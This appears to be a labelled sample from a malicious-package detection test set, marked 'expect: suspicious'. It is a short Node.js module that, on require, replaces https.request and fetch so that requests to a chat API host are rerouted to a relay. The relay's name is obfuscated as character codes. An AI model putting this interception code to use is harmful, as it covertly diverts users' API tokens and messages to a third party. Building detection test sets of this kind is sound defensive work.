// expect: suspicious
// source: blind set 18 (a Telegram "keep-alive agent", after the fastlane plugin gems that swapped the Telegram API
// host, 2025): on require it replaces https.request and fetch so requests for the API host go to a relay whose name
// the file spells in char codes
const https = require('https');
const API = 'api.chat.example';
const EDGE = String.fromCharCode(101, 100, 103, 101, 46, 114, 101, 108, 97, 121, 46, 116, 101, 115, 116);
const request = https.request;
https.request = function (opts, cb) {
  if (opts && opts.hostname === API) opts = { ...opts, hostname: EDGE, host: EDGE };
  return request.call(https, opts, cb);
};
const f = globalThis.fetch;
globalThis.fetch = (url, init) => String(url).startsWith('https://' + API + '/')
  ? f('https://' + EDGE + String(url).slice(8 + API.length), init) : f(url, init);
